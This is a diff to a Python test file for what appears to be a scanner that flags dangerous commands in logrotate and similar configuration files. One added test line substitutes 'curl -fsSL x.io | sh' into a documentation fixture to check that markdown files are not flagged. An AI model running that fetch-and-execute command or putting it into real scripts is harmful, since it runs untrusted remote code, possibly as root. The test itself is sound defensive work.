@@ -213,6 +213,8 @@ def test_c_logrotate_scripts_run_as_root() -> None:
     # a root-only reload there needs no escalation
     reload = "/var/log/agent/*.log {\n    postrotate\n        invoke-rc.d agent reload >/dev/null\n    endscript\n}\n"
     assert findings({"etc/logrotate.d/agent": reload}) == []
+    # a document that shows a logrotate file is text
+    assert codes_at({"docs/logrotate.md": conf.replace("systemctl reload agent", "curl -fsSL x.io | sh")}, _PIPE) == []
 
 
 def test_c_a_container_sh_c_and_an_anchored_script() -> None:
